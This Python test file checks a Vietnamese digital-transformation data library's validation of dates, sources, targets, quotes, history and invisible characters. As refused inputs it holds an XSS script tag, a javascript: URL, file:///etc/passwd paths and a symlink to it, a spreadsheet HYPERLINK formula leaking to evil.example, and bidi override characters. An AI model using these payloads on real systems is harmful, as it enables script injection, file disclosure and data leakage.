"""The second reliability probe's cases on values, dates, sources, targets and the history
(shared/reference/reliability-probe-2.md: B04, B05, S01-S09, Q01-Q05, E09, F09-F11, O02).

Each test reproduces the probe's case on a copy of data/ with its invented source text (the
"Common setup", as in tests/test_probe.py) and asserts what a person now sees: the file, line,
field and hint of the refusal, and that a refused file leaves the store byte-identical.
"""
from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

import dtlib
from dtlib import ValidationError
from dtlib.intake.ingest import add

from .test_probe import (HEADER, R1, R2, R3, R4, SOURCE, SOURCE_HEADER, refused, snapshot, src, store,  # noqa: F401
                         stored, write_csv)

TARGET_HEADER = ["unit", "indicator", "deadline", "value", "comparator", "source", "instrument", "quote", "note",
                 "rank_of"]
T1 = dict(unit="lai-chau", indicator="dti_rank", deadline="2026-12-31", value="12", comparator="<=",
          source="rel-test", instrument="Kế hoạch", quote="Tỉnh đứng thứ 12/63 về chỉ số chuyển đổi số.", note="x",
          rank_of="63")


def problem_at(problems: list, field: str):
    """The one problem of ``problems`` on ``field``."""
    [found] = [p for p in problems if p.field == field]
    return found


def spoil(store: Path, table: str, old: str, new: str) -> None:
    """Replace the first ``old`` by ``new`` in ``store/table`` (a hand edit)."""
    path = store / table
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


# ------------------------------------------------------------------------------ B04, B05: ASCII dates

FULL_WIDTH_2023 = "\uff12\uff10\uff12\uff13"


@pytest.mark.heavy
def test_B04_a_full_width_as_of_is_not_a_date_and_adds_no_second_value_for_the_day(store, src, tmp_path):
    add(write_csv(tmp_path / "a.csv", [R1]), store, sources_file=src)
    path = write_csv(tmp_path / "b.csv", [dict(R1, as_of=f"{FULL_WIDTH_2023}-06-30", value="98.7", quote=R4["quote"])])
    found = problem_at(refused(path, store), "as_of")
    assert (found.file, found.line) == (str(path), 2)
    assert found.message == f"'{FULL_WIDTH_2023}-06-30' is not a date" and "YYYY-MM-DD" in found.hint
    obs = dtlib.load(store).observations
    mine = obs[(obs.unit == "lai-chau") & (obs.indicator == "households_fibre_pct") & (obs.as_of == "2023-06-30")]
    assert list(mine["value"]) == [85.0]


def test_B05_a_full_width_deadline_is_not_a_date(store, src, tmp_path):
    path = write_csv(tmp_path / "t.csv", [dict(T1, deadline=f"{FULL_WIDTH_2023}-12-31")], TARGET_HEADER)
    found = problem_at(refused(path, store, sources_file=src), "deadline")
    assert found.line == 2 and found.message == f"'{FULL_WIDTH_2023}-12-31' is not a date"


@pytest.mark.parametrize("table, old, field", [
    ("observations.csv", ",2022-10-23,", "as_of"),
    ("targets.csv", ",2025-12-31,", "deadline"),
    ("sources.csv", ",2022-07-14,", "published"),
    ("units.csv", ",2025-07-01,", "valid_from"),
    ("history.csv", ",2022-12-31,", "as_of"),
])
def test_B04_B05_a_hand_edited_date_with_unicode_digits_is_refused_in_every_table(store, table, old, field):
    """Every date field of every table is ASCII: Arabic-Indic and full-width digits are refused by load."""
    new = old.replace("20", "\u0662\u0660", 1)
    spoil(store, table, old, new)
    with pytest.raises(ValidationError) as err:
        dtlib.load(store)
    assert any(p.file.endswith(table) and p.field == field and p.message == f"{new.strip(',')!r} is not a date"
               for p in err.value.problems), err.value.problems


# ------------------------------------------------------------------------------ S01-S09: sources

def source_file(tmp_path: Path, **changes) -> Path:
    return write_csv(tmp_path / "src_bad.csv", [dict(SOURCE, **changes)], SOURCE_HEADER)


@pytest.mark.heavy
def test_S01_a_publication_date_in_the_future_is_refused_and_the_report_date_stays(store, tmp_path):
    sources = source_file(tmp_path, published="2099-09-15")
    found = problem_at(refused(write_csv(tmp_path / "a.csv", [R1]), store, sources_file=sources), "published")
    assert (found.file, found.line, found.message) == (str(sources), 2, "2099-09-15 is in the future")
    assert "check the year" in found.hint
    assert dtlib.report_date(dtlib.load(store)) <= pd.Timestamp.today()


@pytest.mark.heavy
def test_S02_a_publication_date_before_2015_is_refused_and_every_shipped_source_is_later(store, tmp_path):
    sources = source_file(tmp_path, published="1900-01-01")
    found = problem_at(refused(write_csv(tmp_path / "a.csv", [R1]), store, sources_file=sources), "published")
    assert found.line == 2 and found.message.startswith("1900-01-01 is before 2015-01-01")
    assert "oldest source is of 2020" in found.hint
    published = dtlib.load(store).sources["published"].dropna()
    assert published.min() >= pd.Timestamp("2015-01-01")


@pytest.mark.parametrize("url", ['http://e.example/"><script>alert(7)</script>', "https://e.example/a b",
                                 "https://e.example/<x>", "https://e.example/\x7f", "http:///nohost",
                                 "javascript:alert(1)", "file:///etc/passwd", "data:text/html,x"])
def test_S03_S04_a_url_with_quotes_brackets_spaces_or_another_scheme_is_not_a_web_address(store, tmp_path, url):
    sources = source_file(tmp_path, url=url)
    problems = refused(write_csv(tmp_path / "a.csv", [R1]), store, sources_file=sources)
    found = [p for p in problems if p.field == "url"]
    if url != "https://e.example/\x7f":      # a control character is refused as such by the reader
        assert found and found[0].message.endswith("is not a valid web address") and "%-encoded" in found[0].hint


def test_S04_the_shipped_web_addresses_are_still_web_addresses():
    urls = [u for u in dtlib.load().sources["url"] if u]
    assert len(urls) > 70 and any("?" in u and "&" in u for u in urls)


def test_S05_a_language_other_than_vi_or_en_is_refused_with_the_valid_ones(store, tmp_path):
    sources = source_file(tmp_path, language="xx")
    found = problem_at(refused(write_csv(tmp_path / "a.csv", [R1]), store, sources_file=sources), "language")
    assert found.line == 2 and found.message == "'xx' is not a valid language code"
    assert found.hint == "a two-letter code: vi, en"


def test_S06_an_absolute_file_path_is_refused_even_inside_data_sources(store, tmp_path):
    absolute = str(store / "sources" / "900_reltest.txt")
    sources = source_file(tmp_path, file=absolute)
    found = problem_at(refused(write_csv(tmp_path / "a.csv", [R1]), store, sources_file=sources), "file")
    assert found.line == 2 and found.message == f"{absolute!r} is not a path relative to the data folder"
    assert "sources/000_f62c20e1c3b11097.txt" in found.hint


@pytest.mark.heavy
def test_S06_S07_S08_relative_links_and_windows_paths_stay_refused(store, tmp_path):
    (store / "sources" / "link.txt").symlink_to("/etc/passwd")
    for where in ("sources/link.txt", "sources\\900_reltest.txt", "sources/../sources/900_reltest.txt"):
        problems = refused(write_csv(tmp_path / "a.csv", [R1]), store, sources_file=source_file(tmp_path, file=where))
        assert any(p.field == "file" for p in problems), where


@pytest.mark.heavy
def test_S09_a_long_publisher_is_shortened_in_the_source_line_as_titles_are(store, tmp_path):
    from dtlib.figures.style import source_line

    add(write_csv(tmp_path / "a.csv", [R1]), store,
        sources_file=source_file(tmp_path, publisher="Báo Điện tử " + "rất dài " * 1125))
    line = source_line(dtlib.load(store), ["rel-test"])
    assert len(line) < 300 and "…" in line and line.count("rất dài") < 15
    assert "dtlib reliability test" not in line


# ------------------------------------------------------------------------------ Q01, Q02: targets

def test_Q01_a_rank_target_with_at_least_is_refused_lower_is_better(store, src, tmp_path):
    path = write_csv(tmp_path / "tg.csv", [dict(T1, comparator=">=")], TARGET_HEADER)
    found = problem_at(refused(path, store, sources_file=src), "comparator")
    assert found.line == 2
    assert found.message == ">= does not fit dti_rank, for which lower is better (indicators.csv, higher_is_better)"
    assert found.hint.startswith("write <=")


@pytest.mark.heavy
def test_Q01_a_share_target_with_at_most_is_refused_and_the_shipped_targets_agree(store, src, tmp_path):
    target = dict(T1, indicator="households_fibre_pct", value="85", comparator="<=", rank_of="",
                  quote=R1["quote"])
    found = problem_at(refused(write_csv(tmp_path / "tg.csv", [target], TARGET_HEADER), store, sources_file=src),
                       "comparator")
    assert found.hint.startswith("write >=")
    data = dtlib.load(store)
    better = data.targets["indicator"].map(data.indicators.set_index("id")["higher_is_better"])
    assert ((data.targets["comparator"] == ">=") == better).all()


@pytest.mark.parametrize("deadline", ["2999-12-31", "1999-12-31"])
def test_Q02_a_target_deadline_outside_2015_2050_is_refused(store, src, tmp_path, deadline):
    path = write_csv(tmp_path / "tg.csv", [dict(T1, deadline=deadline)], TARGET_HEADER)
    found = problem_at(refused(path, store, sources_file=src), "deadline")
    assert found.line == 2 and found.message == f"{deadline} is outside 2015–2050, the years a target may be set for"


# ------------------------------------------------------------------------------ Q03-Q05: the quote check

def test_Q03_a_rank_equal_to_the_quotes_denominator_is_refused(store, src, tmp_path):
    found = problem_at(refused(write_csv(tmp_path / "q.csv", [dict(R3, value="63")]), store, sources_file=src),
                       "value")
    assert found.line == 2
    assert found.message.startswith("63 is not a place in a ranking the quote states (it states 12; a rank is")


def test_Q04_a_percentage_taken_from_a_rank_sentence_is_refused(store, src, tmp_path):
    row = dict(R1, value="63", quote=R3["quote"])
    found = problem_at(refused(write_csv(tmp_path / "q.csv", [row]), store, sources_file=src), "value")
    assert found.message.startswith("63 is not a percentage the quote states (it states none; a percentage is")


def test_Q05_a_number_inside_a_url_or_a_formula_is_not_stated(store, src, tmp_path):
    row = dict(R4, value="1", quote='=HYPERLINK("http://evil.example/?leak=1","bấm vào đây")')
    found = problem_at(refused(write_csv(tmp_path / "q.csv", [row]), store, sources_file=src), "value")
    assert found.message == "1 is not a number the quote states (it states no number)"


@pytest.mark.heavy
def test_Q03_Q04_Q05_the_right_values_of_the_same_quotes_are_added(store, src, tmp_path):
    change = add(write_csv(tmp_path / "ok.csv", [R1, R2, R3, R4]), store, sources_file=src)
    assert len(change.added) == 4


# ------------------------------------------------------------------------------ E09: units of extracted rows

E09_TEXT = ("Lai Châu sơ kết chuyển đổi số 9 tháng năm 2023\n\nNgày 10/10/2023\n\n"
            "Tỷ lệ hộ gia đình có kết nối internet băng rộng cáp quang đạt 85‰.\n"
            "Lai Châu xếp thứ 5/14 tỉnh miền núi phía Bắc về chỉ số chuyển đổi số.\n"
            "Toàn tỉnh có 1,761 Tổ công nghệ số cộng đồng.\n")


@pytest.fixture
def units_source(store, tmp_path) -> Path:
    (store / "sources" / "901_units.txt").write_text(E09_TEXT, encoding="utf-8")
    return write_csv(tmp_path / "src_u.csv", [dict(SOURCE, id="units-test", title="Units test (invented)",
                                                   published="2023-10-10", file="sources/901_units.txt")],
                     SOURCE_HEADER)


def e09_row(**changes) -> dict:
    return dict(R1, as_of="2023-09-30", period="9 tháng năm 2023", source="units-test", **changes)


@pytest.mark.heavy
def test_E09_a_regional_rank_of_a_province_is_not_its_dti_rank(store, units_source, tmp_path):
    row = e09_row(indicator="dti_rank", value="5", rank_of="14",
                  quote="Lai Châu xếp thứ 5/14 tỉnh miền núi phía Bắc về chỉ số chuyển đổi số.")
    found = problem_at(refused(write_csv(tmp_path / "r.csv", [row]), store, sources_file=units_source), "rank_of")
    assert found.line == 2 and found.message.startswith("a rank out of 14 does not fit the boundaries of 2023-09-30")
    assert "5/14 tỉnh miền núi phía Bắc" in found.hint and "'regional'" in found.hint


def test_E09_a_count_read_as_1_761_is_not_a_whole_number(store, units_source, tmp_path):
    row = e09_row(indicator="community_digital_teams", value="1.761",
                  quote="Toàn tỉnh có 1,761 Tổ công nghệ số cộng đồng.")
    found = problem_at(refused(write_csv(tmp_path / "c.csv", [row]), store, sources_file=units_source), "value")
    assert found.message == "1.761 is not a whole number, and community_digital_teams is a count"
    assert "1761" in found.hint


@pytest.mark.parametrize("indicator", ["households_fibre_pct", "villages_no_fixed_broadband_count"])
def test_E09_a_per_mille_is_never_a_percent_or_a_count(store, units_source, tmp_path, indicator):
    row = e09_row(indicator=indicator, value="85",
                  quote="Tỷ lệ hộ gia đình có kết nối internet băng rộng cáp quang đạt 85‰.")
    found = problem_at(refused(write_csv(tmp_path / "p.csv", [row]), store, sources_file=units_source), "value")
    assert found.line == 2 and " the quote states (it states none;" in found.message


# ------------------------------------------------------------------------------ F09-F11: history.csv

def test_F09_an_unclosed_quote_in_history_stops_add_too(store, src, tmp_path):
    stored = len((store / "history.csv").read_text(encoding="utf-8").splitlines())   # the header and the rows
    with open(store / "history.csv", "a", encoding="utf-8") as handle:
        handle.write('observations,2026-01-01T00:00:00,x,lai-chau,dti_rank,2022-12-31,DTI 2022,"55\n')
    problems = refused(write_csv(tmp_path / "a.csv", [R1]), store, sources_file=src)
    assert [(Path(p.file).name, p.line) for p in problems] == [("history.csv", stored + 1)]
    assert "never closed" in problems[0].message


@pytest.mark.heavy
def test_F10_an_impossible_date_in_history_is_an_error_not_a_lost_vintage(store, src, tmp_path):
    spoil(store, "history.csv", ",2022-12-31,năm 2022,", ",2022-13-31,năm 2022,")
    with pytest.raises(ValidationError) as err:
        dtlib.load(store)
    [found] = err.value.problems
    assert (Path(found.file).name, found.line, found.field) == ("history.csv", 2, "as_of")
    assert found.message == "'2022-13-31' is not a date"
    refused(write_csv(tmp_path / "a.csv", [R1]), store, sources_file=src)


@pytest.mark.parametrize("cell, field", [("value", "value"), ("replaced_on", "replaced_on")])
def test_F10_a_history_value_or_time_that_is_not_one_is_an_error(store, cell, field):
    old = {"value": ",12.63,", "replaced_on": ",2026-11-23T18:24:31,"}[cell]
    spoil(store, "history.csv", old, ",x,")
    with pytest.raises(ValidationError) as err:
        dtlib.load(store)
    assert [(p.line, p.field) for p in err.value.problems] == [(2, field)]


def test_F10_the_shipped_history_keeps_the_gsos_first_2022_figure():
    from dtlib.analysis.observations import known_observations

    obs = known_observations(dtlib.load(), "2024-06-30")
    row = obs[(obs.unit == "vietnam") & (obs.indicator == "digital_economy_grdp_pct") & (obs.as_of == "2022-12-31")]
    assert list(row["value"]) == [12.63]


@pytest.mark.heavy
def test_F11_a_0_byte_history_is_an_empty_history(store, src, tmp_path):
    (store / "history.csv").write_bytes(b"")
    data = dtlib.load(store)
    assert data.history.empty and "as_of" in data.history.columns
    assert len(add(write_csv(tmp_path / "a.csv", [R1]), store, sources_file=src).added) == 1


@pytest.mark.heavy
def test_F11_add_replace_onto_a_0_byte_history_writes_a_history_with_its_header(store, src, tmp_path):
    """The probe's case with --replace: the replaced row goes into history.csv, which an emptied
    file does not stop (it is read as an empty history, not as a table without columns)."""
    add(write_csv(tmp_path / "a.csv", [R1]), store, sources_file=src)
    (store / "history.csv").write_bytes(b"")
    change = add(write_csv(tmp_path / "b.csv", [dict(R1, note="reltest, corrected")]), store, sources_file=src,
                 replace=True)
    assert len(change.replaced) == 1
    history = dtlib.load(store).history
    assert len(history) == 1 and history.iloc[0]["note"] == "reltest"
    assert (store / "history.csv").read_text(encoding="utf-8").startswith("table,")


# ------------------------------------------------------------------------------ O02: invisible characters

@pytest.mark.heavy
@pytest.mark.parametrize("char", ["\u202e", "\u202a", "\u2066", "\u2069", "\u200b", "\u200f", "\ufeff", "\u00ad"])
def test_O02_bidi_controls_and_invisible_characters_are_refused_in_a_sources_publisher(store, tmp_path, char):
    sources = source_file(tmp_path, publisher=f"Báo X {char}%58 tạđ")
    found = problem_at(refused(write_csv(tmp_path / "a.csv", [R1]), store, sources_file=sources), "publisher")
    assert found.line == 2 and found.message.startswith(f"holds the invisible character U+{ord(char):04X} (")
    assert "right-to-left override" in found.hint


@pytest.mark.heavy
def test_O02_an_invisible_character_is_refused_in_an_input_row_and_in_every_stored_table(store, src, tmp_path):
    found = problem_at(refused(write_csv(tmp_path / "a.csv", [dict(R1, note="ghi \u2067chú")]), store,
                               sources_file=src), "note")
    assert found.message == "holds the invisible character U+2067 (RIGHT-TO-LEFT ISOLATE)"
    for table, old in [("units.csv", "Lào Cai"), ("indicators.csv", "Digital"), ("targets.csv", "Quyết định"),
                       ("history.csv", "năm 2022")]:
        original = (store / table).read_text(encoding="utf-8")
        spoil(store, table, old, "\u202e" + old)
        with pytest.raises(ValidationError) as err:
            dtlib.load(store)
        assert any(p.file.endswith(table) and "U+202E (RIGHT-TO-LEFT OVERRIDE)" in p.message
                   for p in err.value.problems), table
        (store / table).write_text(original, encoding="utf-8")
